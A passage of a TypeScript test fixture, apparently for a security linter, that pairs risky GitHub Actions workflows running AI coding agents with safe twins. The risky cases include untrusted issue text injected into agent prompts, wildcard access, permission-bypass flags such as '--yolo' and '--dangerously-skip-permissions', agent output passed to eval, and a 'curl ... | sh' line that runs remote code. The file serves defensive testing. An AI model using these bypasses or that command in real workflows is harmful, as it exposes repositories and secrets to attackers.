import { BASE, CLAUDE, CODEX, GEMINI, OPENED, type StepParts, workflow } from './workflow-shapes.js';

/** A shape of a workflow, and its twin, one part apart. */
export interface Row {
  row: string;
  shape: StepParts;
  twin: StepParts;
  /** Other files beside the workflow, for both. */
  beside?: Readonly<Record<string, string>>;
  /** Other files beside the twin in place of those. */
  twinBeside?: Readonly<Record<string, string>>;
  /** What other rules report of the shape, by level and rule; left out: nothing. */
  also?: readonly string[];
  /** What is reported of the twin; left out: nothing. */
  other?: readonly string[];
}

const BYPASS = 'warning approval/auto-approved';
const APPROVED = 'error approval/auto-approved';
const WILDCARD = 'error scope/wildcard';
const IGNORED = 'info scope/ignored-setting';
const KNOWN_BAD = 'error mcp/known-bad-version';

export const textsOf = ({ shape, twin }: Row): [shape: string, twin: string] => [
  workflow(shape),
  workflow(twin),
];

const HEAD = "'${{ github.event.pull_request.head.sha }}'";
const checkout = (inputs: string): string => `{ uses: actions/checkout@v4, with: { ${inputs} } }`;
const TEMPLATE = { '.github/ISSUE_TEMPLATE/bug.yml': 'name: Bug\nlabels: [bug]\nbody: []\n' };
const OTHER_TEMPLATE = { '.github/ISSUE_TEMPLATE/bug.yml': 'name: Bug\nlabels: [defect]\nbody: []\n' };
const CACHE = "{ uses: actions/cache@v4, with: { path: dist, key: 'dist-${{ runner.os }}' } }";
const onOpened = '{ issues: { types: [opened] } }';
const READS = { prompt: 'Say.', claude_args: '--allowedTools "Read"' };
const tools = (list: string): Readonly<Record<string, string>> => ({
  prompt: 'Triage.',
  claude_args: `--allowedTools "${list}"`,
});
const core = (name: string): Readonly<Record<string, string>> => ({
  settings: `'{ "tools": { "core": ["${name}"] } }'`,
});

/** Programs that ask for nothing by themselves, or are given tools by name: no option of them is a bypass. */
const WITHOUT_BYPASS = [
  'npx',
  'copilot -p "$P" --allow-tool',
  'opencode',
  'goose',
  'crush',
  'auggie',
  'openhands',
];
const KIRO = '~/.kiro/settings/permissions.yaml';
const LOAD = 'curl -s https://x.example.com/a.sh | sh';
const settings = (value: object): Readonly<Record<string, string>> => ({
  prompt: 'Say.',
  settings: `'${JSON.stringify(value)}'`,
});
const served = (entry: string) =>
  settings({ tools: { core: ['read_file'] }, mcpServers: { github: JSON.parse(entry) as object } });
const discovery = (command: string) =>
  settings({ tools: { core: ['read_file'], discoveryCommand: command } });
const hooked = (command: string) =>
  settings({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command }] }] } });

export const ROWS: readonly Row[] = [
  {
    row: 'trap 1: a label that a template of issues sets is no check',
    shape: { on: onOpened, job: ["if: contains(github.event.issue.labels.*.name, 'bug')"], uses: GEMINI },
    twin: { on: onOpened, job: ["if: contains(github.event.issue.labels.*.name, 'bug')"], uses: GEMINI },
    beside: TEMPLATE,
    twinBeside: OTHER_TEMPLATE,
  },
  {
    row: 'trap 1: a label proves a person with a role in the event `labeled` alone',
    shape: {
      on: 'issue_comment',
      job: ["if: contains(github.event.issue.labels.*.name, 'x')"],
      uses: GEMINI,
    },
    twin: {
      on: '{ issues: { types: [labeled] } }',
      job: ["if: github.event.label.name == 'x'"],
      uses: GEMINI,
    },
  },
  {
    row: 'trap 2, H1: a star has an effect with a token',
    shape: { uses: CLAUDE, with: OPENED },
    twin: { uses: CLAUDE, with: { ...tools('Bash'), allowed_non_write_users: '"*"' } },
  },
  ...[
    'github.event.issue.user.login',
    'github.actor',
    'github.triggering_actor',
    'github.event.sender.login',
  ].map(
    (path): Row => ({
      row: `trap 3, H2: \`${path}\` is a star`,
      shape: { uses: CLAUDE, with: { ...OPENED, allowed_non_write_users: `'\${{ ${path} }}'` } },
      twin: { uses: CLAUDE, with: { ...OPENED, allowed_non_write_users: "'${{ needs.gate.outputs.who }}'" } },
    }),
  ),
  {
    row: 'trap 3: names that are written out',
    shape: {
      on: 'issue_comment',
      uses: CLAUDE,
      with: { ...OPENED, allowed_non_write_users: "'octocat,${{ github.event.comment.user.login }}'" },
    },
    twin: {
      on: 'issue_comment',
      uses: CLAUDE,
      with: { ...OPENED, allowed_non_write_users: "'octocat,${{ vars.FRIENDS }}'" },
    },
  },
  {
    row: 'trap 4, H3: every app is a bot',
    shape: { on: 'issue_comment', uses: CLAUDE, with: { ...tools('Bash(git push:*)'), allowed_bots: '"*"' } },
    twin: {
      on: 'issue_comment',
      uses: CLAUDE,
      with: { ...tools('Bash(git push:*)'), allowed_bots: "'dependabot[bot],renovate[bot]'" },
    },
  },
  {
    row: 'H3: every app with a bare shell',
    shape: { uses: CLAUDE, with: { ...tools('Bash'), allowed_bots: '"*"' } },
    twin: {
      on: '[push, schedule, workflow_dispatch]',
      uses: CLAUDE,
      with: { ...tools('Bash'), allowed_bots: '"*"' },
    },
  },
  {
    row: 'H3: every app, unless a condition shuts bots out',
    shape: {
      uses: CLAUDE,
      job: ["if: github.actor != 'dependabot[bot]'"],
      with: { ...tools('Bash'), allowed_bots: '"*"' },
    },
    twin: {
      uses: CLAUDE,
      job: ["if: github.event.sender.type != 'Bot'"],
      with: { ...tools('Bash'), allowed_bots: '"*"' },
    },
  },
  {
    row: 'H3: every app, without any tool that acts',
    shape: { uses: CLAUDE, with: { ...READS, allowed_bots: '"*"' } },
    twin: { uses: CLAUDE, with: { ...READS, allowed_bots: '"renovate[bot]"' } },
  },
  {
    row: '1.1: `allowed_tools` has an effect before version 1',
    shape: {
      uses: 'anthropics/claude-code-base-action@v0.0.63',
      with: { prompt: 'Say.', allowed_tools: 'Bash' },
    },
    twin: { uses: BASE, with: { prompt: 'Say.', allowed_tools: 'Bash' } },
  },
  {
    row: 'trap 5: before v1.7 `allow-bots` admits every bot',
    shape: { uses: 'openai/codex-action@v1.6', with: { prompt: 'Say.', 'allow-bots': 'true' } },
    twin: { uses: CODEX, with: { prompt: 'Say.', 'allow-bots': 'true' } },
  },
  {
    row: 'H4: before v1.0.30 a prompt lets bots in',
    shape: { uses: 'anthropics/claude-code-action@v1.0.29', with: tools('Bash(git push:*)') },
    twin: { uses: 'anthropics/claude-code-action@v1.0.30', with: tools('Bash(git push:*)') },
    also: [KNOWN_BAD],
    other: [KNOWN_BAD],
  },
  {
    row: 'H5: every user starts Codex',
    shape: { uses: CODEX, with: { prompt: 'Say.', 'allow-users': '"*"' } },
    twin: { uses: CODEX, with: { prompt: 'Say.', 'allow-users': 'octocat' } },
  },
  {
    row: 'H5: every user starts Codex that only reads',
    shape: { uses: CODEX, with: { prompt: 'Say.', 'allow-users': '"*"', sandbox: 'read-only' } },
    twin: { uses: CODEX, with: { prompt: 'Say.', 'allow-users': '""', sandbox: 'read-only' } },
  },
  {
    row: 'H6: Codex without a sandbox, for everybody',
    shape: { uses: CODEX, with: { prompt: 'Say.', 'allow-users': '"*"', 'safety-strategy': 'unsafe' } },
    twin: { uses: CODEX, with: { prompt: 'Say.', 'safety-strategy': 'drop-sudo' } },
  },
  {
    row: 'H6: Codex without a sandbox, for people with write access',
    shape: { on: 'workflow_dispatch', uses: CODEX, with: { prompt: 'Say.', sandbox: 'danger-full-access' } },
    twin: { on: 'workflow_dispatch', uses: CODEX, with: { prompt: 'Say.', sandbox: 'workspace-write' } },
  },
  {
    row: 'trap 7 and 8, H7: Gemini CLI has every tool unless `tools.core` lists them',
    shape: { uses: GEMINI, with: { settings: `'{ "tools": { "allowed": ["read_file"] } }'` } },
    twin: { uses: GEMINI, with: core('read_file') },
  },
  {
    row: 'H7: Qwen Code',
    shape: { uses: 'QwenLM/qwen-code-action@v1', with: { prompt: 'Say.' } },
    twin: { uses: 'QwenLM/qwen-code-action@v1', with: { settings_json: `'{ "coreTools": ["read_file"] }'` } },
  },
  ...['echo', 'cat', 'printf', 'tee', 'head', 'tail', 'wc', 'sort'].map(
    (name): Row => ({
      row: `H8: Gemini CLI runs what is within \`${name}\``,
      shape: { uses: GEMINI, with: core(`run_shell_command(${name})`) },
      twin: { uses: GEMINI, with: core('list_directory') },
    }),
  ),
  {
    row: 'H8: Claude Code may refuse what is within `echo`',
    shape: { uses: BASE, with: tools('Bash(echo:*)') },
    twin: { uses: BASE, with: tools('Bash(git status)') },
  },
  ...['gh issue edit', 'gh issue comment', 'gh pr comment'].map(
    (verb): Row => ({
      row: `H9: \`${verb}\` of any number`,
      shape: { uses: BASE, with: tools(`Bash(${verb}:*)`) },
      twin: { uses: BASE, with: tools(`Bash(${verb} \${{ github.event.issue.number }}:*)`) },
    }),
  ),
  ...['gh api', 'git push origin', 'gh pr merge'].map(
    (verb): Row => ({
      row: `H9: \`${verb}\``,
      shape: { uses: BASE, with: tools(`Bash(${verb}:*)`) },
      twin: { uses: BASE, with: tools('mcp__github_comment__update_claude_comment') },
    }),
  ),
  {
    row: 'H9, H18: a verb without a target beside a secret',
    shape: { uses: BASE, env: '{ T: "${{ secrets.NPM_TOKEN }}" }', with: tools('Bash(gh issue edit:*)') },
    twin: { uses: BASE, env: '{ T: "${{ secrets.NPM_TOKEN }}" }', with: tools('Bash(gh issue view:*)') },
  },
  {
    row: 'H10: the text of an outsider in a variable that the prompt names',
    shape: {
      uses: BASE,
      env: '{ BODY: "${{ github.event.issue.body }}" }',
      with: { ...READS, prompt: 'Read $BODY.' },
    },
    twin: {
      uses: BASE,
      env: '{ BODY: "${{ github.event.issue.number }}" }',
      with: { ...READS, prompt: 'Read $BODY.' },
    },
  },
  {
    row: 'H11: the text of an outsider in the prompt',
    shape: { uses: BASE, with: { ...READS, prompt: "'Sum up ${{ github.event.issue.title }}'" } },
    twin: { uses: BASE, with: { ...READS, prompt: "'Sum up ${{ github.event.issue.number }}'" } },
  },
  {
    row: 'H11: the text of an outsider in the prompt, behind a check',
    shape: {
      on: 'issue_comment',
      uses: BASE,
      with: { ...READS, prompt: "'Do ${{ github.event.comment.body }}'" },
    },
    twin: {
      on: 'issue_comment',
      job: ["if: github.event.comment.author_association == 'OWNER'"],
      uses: BASE,
      with: { ...READS, prompt: "'Do ${{ github.event.comment.body }}'" },
    },
  },
  {
    row: 'H11: the text of an outsider in options',
    shape: { uses: BASE, with: { prompt: 'Say.', claude_args: "'--model ${{ github.event.issue.title }}'" } },
    twin: {
      uses: BASE,
      with: { prompt: 'Say.', claude_args: "'--model ${{ vars.MODEL }} --allowedTools Read'" },
    },
  },
  {
    row: 'H11: the text of an outsider in options of an action that people with a role start',
    shape: {
      on: 'issue_comment',
      uses: CLAUDE,
      with: { claude_args: "'--append-system-prompt ${{ github.event.issue.title }}'" },
    },
    twin: {
      on: '{ issue_comment: { types: [created] } }',
      uses: CLAUDE,
      with: { claude_args: "'--append-system-prompt ${{ github.event.comment.body }}'" },
    },
  },
  {
    row: 'H12: a prompt that has the agent fetch the text',
    shape: { uses: BASE, with: { ...tools('Bash'), prompt: 'Run `gh issue view 7`.' } },
    twin: { uses: BASE, with: { ...tools('Bash(gh issue view:*)'), prompt: 'Run `gh issue view 7`.' } },
  },
  {
    row: 'H13: the files of a fork configure the agent',
    shape: { on: 'pull_request_target', before: [checkout(`ref: ${HEAD}`)], uses: BASE, with: READS },
    twin: {
      on: 'pull_request_target',
      before: [checkout(`ref: ${HEAD}, path: pr-head`)],
      uses: BASE,
      with: READS,
    },
  },
  {
    row: 'H13: the files of a fork configure the agent, by a command',
    shape: {
      on: 'pull_request_target',
      before: ['uses: actions/checkout@v4', 'run: gh pr checkout 7'],
      run: 'claude -p "Review."',
    },
    twin: { on: 'pull_request_target', before: ['uses: actions/checkout@v4'], run: 'claude -p "Review."' },
  },
  {
    row: 'H13: the files of a fork configure the agent, by `refs/pull`',
    shape: {
      on: 'pull_request_target',
      before: [checkout("ref: 'refs/pull/${{ github.event.number }}/merge'")],
      run: 'gemini -p "Review."',
    },
    twin: {
      on: 'pull_request_target',
      job: ['if: github.event.pull_request.head.repo.fork == false'],
      before: [checkout("ref: 'refs/pull/${{ github.event.number }}/merge'")],
      run: 'gemini -p "Review."',
    },
  },
  {
    row: 'H13: the action replaces all such files since v1.0.89',
    also: [KNOWN_BAD],
    other: [KNOWN_BAD],
    shape: {
      on: 'pull_request_target',
      before: [checkout(`ref: ${HEAD}`)],
      uses: 'anthropics/claude-code-action@v1.0.73',
      with: { ...OPENED, claude_args: '--allowedTools "Read"' },
    },
    twin: {
      on: 'pull_request_target',
      before: [checkout(`ref: ${HEAD}`)],
      uses: 'anthropics/claude-code-action@v1.0.89',
      with: { ...OPENED, claude_args: '--allowedTools "Read"' },
    },
  },
  {
    row: 'H13: the head of a `workflow_run` of pull requests',
    shape: {
      on: 'workflow_run',
      job: ["if: github.event.workflow_run.event == 'pull_request'"],
      before: [checkout("ref: '${{ github.event.workflow_run.head_sha }}'")],
      run: 'codex exec "Review."',
    },
    twin: {
      on: 'workflow_run',
      job: ["if: github.event.workflow_run.event == 'push'"],
      before: [checkout("ref: '${{ github.event.workflow_run.head_sha }}'")],
      run: 'codex exec "Review."',
    },
  },
  {
    row: 'H14: a command that runs the code of a fork',
    shape: {
      on: 'pull_request_target',
      before: [checkout(`ref: ${HEAD}`)],
      uses: CLAUDE,
      with: tools('Read,Bash(npm test)'),
    },
    twin: {
      on: 'pull_request_target',
      before: [checkout(`ref: ${HEAD}`)],
      uses: CLAUDE,
      with: tools('Read,Bash(npx prettier@3.5.3 --no-config)'),
    },
  },
  ...['npm run build', 'make', 'pytest', 'bun run test', 'cargo test'].map(
    (command): Row => ({
      row: `H14: \`${command}\` runs the code of a fork`,
      shape: {
        on: 'pull_request_target',
        before: [checkout(`ref: ${HEAD}`)],
        uses: CLAUDE,
        with: tools(`Bash(${command}:*)`),
      },
      twin: {
        on: 'pull_request_target',
        before: [checkout('')],
        uses: CLAUDE,
        with: tools(`Bash(${command}:*)`),
      },
    }),
  ),
  ...(
    [
      [
        'a hook',
        (command: string) => ({ hooks: { PostToolUse: [{ hooks: [{ type: 'command', command }] }] } }),
      ],
      ['a helper for keys', (command: string) => ({ apiKeyHelper: command })],
      ['a status line', (command: string) => ({ statusLine: { type: 'command', command } })],
    ] as const
  ).map(
    ([what, settings]): Row => ({
      row: `H14: ${what} of the project runs the code of a fork`,
      shape: {
        on: 'pull_request_target',
        before: [checkout(`ref: ${HEAD}`)],
        uses: CLAUDE,
        with: tools('Read'),
      },
      twin: {
        on: 'pull_request_target',
        before: [checkout(`ref: ${HEAD}`)],
        uses: CLAUDE,
        with: tools('Read'),
      },
      beside: { '.claude/settings.json': JSON.stringify(settings('npm run lint')) },
      twinBeside: { '.claude/settings.json': JSON.stringify(settings('date')) },
    }),
  ),
  {
    row: 'trap 12, H15: the head is looked up after the comment',
    shape: {
      on: 'issue_comment',
      job: ["if: github.event.comment.author_association == 'MEMBER'"],
      before: ['run: gh pr checkout 7'],
      uses: BASE,
      with: READS,
    },
    twin: {
      on: 'pull_request_review_comment',
      job: ["if: github.event.comment.author_association == 'MEMBER'"],
      before: [checkout(`ref: ${HEAD}`)],
      uses: BASE,
      with: READS,
    },
  },
  {
    row: 'H16: logs of the run of a pull request',
    shape: {
      on: 'workflow_run',
      before: ['run: gh run view 1 --log-failed > log.txt'],
      uses: BASE,
      with: tools('Edit'),
    },
    twin: {
      on: 'workflow_run',
      job: ["if: github.event.workflow_run.event == 'push'"],
      before: ['run: gh run view 1 --log-failed > log.txt'],
      uses: BASE,
      with: tools('Edit'),
    },
  },
  {
    row: 'H17: the answer of the agent is put into a script',
    shape: {
      uses: BASE,
      id: 'agent',
      with: READS,
      after: ['run: echo "${{ steps.agent.outputs.structured_output }}"'],
    },
    twin: {
      uses: BASE,
      id: 'agent',
      with: READS,
      after: ['{ run: echo "$A", env: { A: "${{ steps.agent.outputs.structured_output }}" } }'],
    },
  },
  {
    row: 'H17: the answer of the agent is evaluated',
    shape: {
      uses: GEMINI,
      id: 'agent',
      with: core('read_file'),
      after: ['{ run: eval "$A", env: { A: "${{ steps.agent.outputs.summary }}" } }'],
    },
    twin: {
      uses: GEMINI,
      id: 'agent',
      with: core('read_file'),
      after: ['{ run: test "$A" = bug, env: { A: "${{ steps.agent.outputs.summary }}" } }'],
    },
  },
  ...(
    [
      [
        'a label of `gh`',
        'gh issue edit 7 --add-label "$A"',
        'case "$A" in bug|docs) gh issue edit 7 --add-label "$A" ;; esac',
      ],
      [
        'a label that is read from it',
        'L=$(echo "$A" | jq -r .label); [ -n "$L" ] && gh issue edit 7 --add-label="$L"',
        'L=$(echo "$A" | jq -r .label); [ "$L" = bug ] && gh issue edit 7 --add-label="$L"',
      ],
      [
        'one label of several',
        'for L in $A; do gh issue edit 7 --add-label "$L"; done',
        'for L in $A; do gh label list | grep -Fx "$L" && gh issue edit 7 --add-label "$L"; done',
      ],
      ['a branch of `git`', 'git push origin "HEAD:$A"', 'git commit -m "$A"'],
    ] as const
  ).map(
    ([what, run, other]): Row => ({
      row: `H17: the answer of the agent is ${what}`,
      shape: {
        uses: GEMINI,
        id: 'agent',
        with: core('read_file'),
        after: [`{ env: { A: "\${{ steps.agent.outputs.summary }}" }, run: '${run}' }`],
      },
      twin: {
        uses: GEMINI,
        id: 'agent',
        with: core('read_file'),
        after: [`{ env: { A: "\${{ steps.agent.outputs.summary }}" }, run: '${other}' }`],
      },
    }),
  ),
  ...(
    [
      [
        'branch',
        'peter-evans/create-pull-request@v7',
        '{ branch: "${{ steps.agent.outputs.summary }}" }',
        '',
      ],
      [
        'labels',
        'actions-ecosystem/action-add-labels@v1',
        '{ labels: "${{ steps.agent.outputs.summary }}" }',
        `, if: contains(fromJSON('["bug"]'), steps.agent.outputs.summary)`,
      ],
    ] as const
  ).map(
    ([input, uses, inputs, condition]): Row => ({
      row: `H17: the answer of the agent is an input \`${input}\` of an action`,
      shape: {
        uses: GEMINI,
        id: 'agent',
        with: core('read_file'),
        after: [`{ uses: ${uses}, with: ${inputs} }`],
      },
      twin: {
        uses: GEMINI,
        id: 'agent',
        with: core('read_file'),
        after: [
          condition === ''
            ? `{ uses: ${uses}, with: ${inputs.replace(input, 'body')} }`
            : `{ uses: ${uses}, with: ${inputs}, if: "${condition.slice(6).replaceAll('"', '\\"')}" }`,
        ],
      },
    }),
  ),
  {
    row: 'H17: the answer of the agent is a label of `github-script`',
    shape: {
      uses: GEMINI,
      id: 'agent',
      with: core('read_file'),
      after: [
        "{ uses: actions/github-script@v7, env: { A: '${{ steps.agent.outputs.summary }}' }, with: { script: 'github.rest.issues.addLabels({ labels: [process.env.A] }) // known.includes(A)' } }",
      ],
    },
    twin: {
      uses: GEMINI,
      id: 'agent',
      with: core('read_file'),
      after: [
        "{ uses: actions/github-script@v7, env: { A: '${{ steps.agent.outputs.summary }}' }, with: { script: 'if (known.includes(process.env.A)) github.rest.issues.addLabels({ labels: [process.env.A] })' } }",
      ],
    },
  },
  {
    row: 'H17: a schema lists the answers of the agent',
    shape: {
      uses: BASE,
      id: 'agent',
      with: READS,
      after: [
        '{ env: { A: "${{ steps.agent.outputs.structured_output }}" }, run: gh issue edit 7 --add-label "$A" }',
      ],
    },
    twin: {
      uses: BASE,
      id: 'agent',
      with: {
        prompt: 'Say.',
        claude_args: `"--allowedTools Read --json-schema '{ \\"properties\\": { \\"label\\": { \\"enum\\": [\\"bug\\"] } } }'"`,
      },
      after: [
        '{ env: { A: "${{ steps.agent.outputs.structured_output }}" }, run: gh issue edit 7 --add-label "$A" }',
      ],
    },
  },
  {
    row: 'H17: the answer of the agent is put into a script of `github-script`',
    shape: {
      uses: GEMINI,
      id: 'agent',
      with: core('read_file'),
      after: [
        "{ uses: actions/github-script@v7, with: { script: 'core.info(`${{ steps.agent.outputs.summary }}`)' } }",
      ],
    },
    twin: {
      uses: GEMINI,
      id: 'agent',
      with: core('read_file'),
      after: [
        "{ uses: actions/github-script@v7, env: { A: '${{ steps.agent.outputs.summary }}' }, with: { script: 'core.info(process.env.A)' } }",
      ],
    },
  },
  {
    row: 'H18, H19: secrets and rights are named',
    shape: {
      permissions: '{ contents: write, issues: read }',
      job: ['env: { CLOUD: "${{ secrets.CLOUD_KEY }}", K: "${{ secrets.ANTHROPIC_API_KEY }}" }'],
      uses: CLAUDE,
      with: {
        ...OPENED,
        github_token: '${{ secrets.BOT_PAT || secrets.GITHUB_TOKEN || secrets.NEVER_USED }}',
      },
    },
    twin: {
      permissions: '{ contents: write, issues: read }',
      job: ['env: { CLOUD: "${{ secrets.CLOUD_KEY }}" }'],
      uses: CLAUDE,
      with: tools('Bash'),
    },
  },
  ...[
    '{ contents: write }',
    '{ actions: write }',
    '{ packages: write }',
    '{ id-token: write }',
    'write-all',
    '',
  ].map(
    (permissions): Row => ({
      row: `H19: an agent that reads, with ${permissions === '' ? 'no `permissions`' : `\`${permissions}\``}`,
      shape: { permissions, uses: BASE, with: READS },
      twin: { permissions: '{ issues: write }', uses: BASE, with: READS },
    }),
  ),
  {
    row: 'H20: the whole output is in a public log',
    shape: { on: 'issue_comment', uses: CLAUDE, with: { show_full_output: 'true' } },
    twin: { on: 'schedule', uses: CLAUDE, with: { show_full_output: 'true' } },
  },
  {
    row: 'H20: `gemini_debug`',
    shape: { uses: GEMINI, with: { ...core('read_file'), gemini_debug: 'true' } },
    twin: { uses: GEMINI, with: { ...core('read_file'), gemini_debug: 'false' } },
  },
  {
    row: 'H20: a session that is shared',
    shape: { on: 'issue_comment', uses: 'anomalyco/opencode/github@v1', with: { share: 'true' } },
    twin: { on: 'issue_comment', uses: 'anomalyco/opencode/github@v1', with: { share: 'false' } },
  },
  {
    row: 'H20: a transcript as an artifact',
    shape: {
      on: 'pull_request',
      uses: CLAUDE,
      id: 'agent',
      after: [
        '{ uses: actions/upload-artifact@v4, with: { path: "${{ steps.agent.outputs.execution_file }}" } }',
      ],
    },
    twin: {
      on: 'pull_request',
      uses: CLAUDE,
      id: 'agent',
      after: ['{ uses: actions/upload-artifact@v4, with: { path: dist } }'],
    },
  },
  {
    row: 'H20: options of a program that print all',
    shape: { run: 'claude -p "Say." --debug' },
    twin: { run: 'claude -p "Say."' },
  },
  {
    row: 'H20: `--share-gist`',
    shape: { run: 'copilot -p "Say." --share-gist' },
    twin: { run: 'copilot -p "Say."' },
  },
  {
    row: 'H20: `ACTIONS_STEP_DEBUG`',
    shape: { on: 'issue_comment', job: ['env: { ACTIONS_STEP_DEBUG: true }'], uses: CLAUDE },
    twin: { on: 'issue_comment', job: ['env: { ACTIONS_STEP_DEBUG: false }'], uses: CLAUDE },
  },
  {
    row: 'H21: secrets stay in the environment of commands',
    shape: {
      uses: CLAUDE,
      env: '{ CLAUDE_CODE_SUBPROCESS_ENV_SCRUB: 0 }',
      with: { ...OPENED, claude_args: '--allowedTools "Read"' },
    },
    twin: { uses: CLAUDE, with: { ...OPENED, claude_args: '--allowedTools "Read"' } },
  },
  ...[
    'claude -p "$P" --dangerously-skip-permissions',
    'claude -p "$P" --permission-mode bypassPermissions',
    'npx -y @anthropic-ai/claude-code@2.1.53 -p "$P" --allowedTools Bash',
    'codex exec --dangerously-bypass-approvals-and-sandbox "$P"',
    'codex e -s danger-full-access "$P"',
    'codex exec -c sandbox_workspace_write.network_access=true "$P"',
    'gemini --yolo -p "$P"',
    'gemini --approval-mode=yolo -p "$P"',
    'qwen -y -p "$P"',
    'copilot -p "$P" --allow-all-tools',
    'copilot -p "$P" --allow-tool=shell',
    'cursor-agent -p --force "$P"',
    'agent -p --force "$P"',
    'opencode run "$P"',
    'amp -x "$P" --dangerously-allow-all',
    'droid exec --auto high "$P"',
    'goose run -t "$P"',
    'aider --message "$P" --yes-always',
    'q chat --no-interactive --trust-all-tools "$P"',
    'kiro-cli chat --no-interactive -a "$P"',
    'cn -p "$P" --auto',
    'crush run "$P"',
    'auggie --print "$P"',
    'openhands --headless -t "$P"',
  ].map((run): Row => {
    return {
      row: `H22: \`${run}\``,
      shape: { run },
      twin: { on: '[push, schedule, workflow_dispatch]', run },
      other: WITHOUT_BYPASS.some((one) => run.startsWith(one)) ? [] : [BYPASS],
    };
  }),
  ...(
    [
      ['claude -p "$P" --allowedTools "Bash(git push:*)"', 'claude -p "$P" --allowedTools "Read"'],
      ['claude -p "$P" --allowedTools Bash', 'claude -p "$P" --allowedTools Bash --disallowedTools Bash'],
      [`copilot -p "$P" --allow-tool='shell(git push)'`, `copilot -p "$P" --allow-tool='shell(git status)'`],
      [
        'gemini -p "$P" --allowed-tools "run_shell_command(git push)"',
        'gemini -p "$P" --allowed-tools read_file',
      ],
      ['codex exec --yolo "$P"', 'codex exec "$P"'],
      ['codex exec --full-auto "$P"', 'codex exec --sandbox read-only "$P"'],
      ['codex exec -s workspace-write "$P"', 'codex exec -s read-only "$P"'],
      ['droid exec --auto high "$P"', 'droid exec --auto low "$P"'],
      ['goose run -t "$P"', 'GOOSE_MODE=approve goose run -t "$P"'],
      ['cn -p "$P" --auto', 'cn -p "$P" --readonly'],
      ['q chat --no-interactive -a "$P"', 'q chat --no-interactive --trust-tools= "$P"'],
      ['aider --message "$P" --yes', 'aider --message "$P"'],
      ['cursor-agent -p -f "$P"', 'cursor-agent -p "$P"'],
      ['amp -x "$P" --dangerously-allow-all', 'amp -x "$P"'],
      ['opencode run "$P"', 'opencode github run'],
      [`docker run agents -lc 'codex exec --yolo "$P"'`, `docker run agents -lc 'codex exec "$P"'`],
    ] as const
  ).map(
    ([run, other]): Row => ({
      row: `1.2: \`${run}\` and \`${other}\``,
      shape: { run },
      twin: { run: other },
    }),
  ),
  ...(
    [
      ['bash ./ci/agent.sh', 'ci/agent.sh', (text: string) => `#!/usr/bin/env bash\n${text}\n`],
      ['./ci/agent.sh', 'ci/agent.sh', (text: string) => text],
      ['npm run agent', 'package.json', (text: string) => JSON.stringify({ scripts: { agent: text } })],
      ['make agent', 'Makefile', (text: string) => `all:\n\ttrue\nagent: all\n\t@${text}\n`],
    ] as const
  ).map(
    ([run, file, within]): Row => ({
      row: `H23: an agent behind \`${run}\``,
      shape: { run },
      twin: { run },
      beside: { [file]: within('gemini --yolo -p hi') },
      also: [BYPASS],
      twinBeside: { [file]: within('echo "gemini --yolo -p hi"') },
    }),
  ),
  {
    row: 'H23: an agent behind an action of the project',
    shape: { uses: './.github/actions/agent', with: { users: '"*"' } },
    twin: { uses: './.github/actions/agent', with: { users: 'octocat' } },
    beside: {
      '.github/actions/agent/action.yml': `inputs: { users: {} }
runs:
  using: composite
  steps:
    - uses: ${CLAUDE}
      with:
        prompt: Triage.
        github_token: x
        allowed_non_write_users: \${{ inputs.users }}
        claude_args: --allowedTools Bash
`,
    },
  },
  {
    row: 'H24: inputs of people who may dispatch',
    shape: {
      on: 'issue_comment',
      uses: BASE,
      with: { ...READS, prompt: "'${{ github.event.comment.body }}'" },
    },
    twin: {
      on: 'workflow_dispatch',
      uses: BASE,
      with: { ...READS, prompt: "'${{ inputs.text }} ${{ github.event.client_payload.text }}'" },
    },
  },
  {
    row: 'H25: pull requests of forks have no secrets',
    shape: { on: 'pull_request_target', uses: BASE, with: tools('Bash') },
    twin: { on: 'pull_request', uses: BASE, with: tools('Bash') },
  },
  {
    row: 'H26: a machine of your own',
    shape: { runner: '[self-hosted, linux]', uses: BASE, with: READS },
    twin: { runner: '[ubuntu-latest]', uses: BASE, with: READS },
  },
  {
    row: 'H27: a cache that a release restores',
    shape: { before: [CACHE], uses: BASE, with: READS },
    twin: { before: [CACHE.replace('cache@', 'cache/restore@')], uses: BASE, with: READS },
    beside: {
      '.github/workflows/release.yml': `on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - ${CACHE}
      - run: npm publish
`,
    },
  },
  {
    row: 'H6: on Windows Codex has no sandbox',
    shape: { runner: 'windows-latest', on: 'push', uses: CODEX, with: { 'safety-strategy': 'unsafe' } },
    twin: { on: 'push', uses: CODEX, with: { 'safety-strategy': 'drop-sudo' } },
  },
  {
    row: 'H28: a fork of an action',
    shape: { on: 'push', uses: '1amageek/claude-code-action@v1', with: READS },
    twin: { on: 'push', uses: CLAUDE, with: READS },
  },
  {
    row: 'H28: a branch of an action',
    shape: { on: 'push', uses: 'anthropics/claude-code-action@main', with: READS },
    twin: {
      on: 'push',
      uses: 'anthropics/claude-code-action@24dcd5001b4a2a4d8d1b7f3c3f4a8a9c1e2d3f40',
      with: READS,
    },
  },
  {
    row: 'H28: a program of a moving tag',
    shape: { on: 'push', before: ['run: npm i -g @openai/codex@latest'], run: 'codex exec "Review."' },
    twin: { on: 'push', before: ['run: npm i -g @openai/codex@0.139.0'], run: 'codex exec "Review."' },
  },
  {
    row: 'H28: a program that is started by a moving tag',
    shape: { on: 'push', run: 'npx @anthropic-ai/claude-code@next -p "Review."' },
    twin: { on: 'push', run: 'npx @anthropic-ai/claude-code@2.1.53 -p "Review."' },
  },
  ...(
    [
      [
        'npm install -g @anthropic-ai/claude-code',
        'claude -p "Review."',
        'npm install -g @anthropic-ai/claude-code@2.1.53',
      ],
      [
        'sudo npm i --global "@openai/codex"',
        'codex exec "Review."',
        'npm view @openai/codex # npm i -g @openai/codex',
      ],
      ['true', 'npx @openai/codex exec "Review."', 'npm i -g @openai/codex@0.139.0'],
    ] as const
  ).map(
    ([before, run, other]): Row => ({
      row: `H28: \`${before}\`, then \`${run}\``,
      shape: { on: 'push', before: [`run: '${before}'`], run },
      twin: {
        on: 'push',
        before: [`run: '${other}'`],
        run: run.replace('/codex exec', '/codex@0.139.0 exec'),
      },
    }),
  ),
  {
    row: 'H28: a program that is no package of the project',
    shape: { on: 'push', run: 'npx @openai/codex exec "Review."' },
    twin: { on: 'push', run: 'npx @openai/codex exec "Review."' },
    beside: { 'package.json': '{ "devDependencies": { "prettier": "3.5.3" } }' },
    twinBeside: { 'package.json': '{ "devDependencies": { "@openai/codex": "0.139.0" } }' },
  },
  {
    row: 'H29: a step behind the agent has a secret',
    shape: { uses: BASE, with: tools('Bash'), after: ['{ run: ./x, env: { T: "${{ secrets.T }}" } }'] },
    twin: {
      on: 'push',
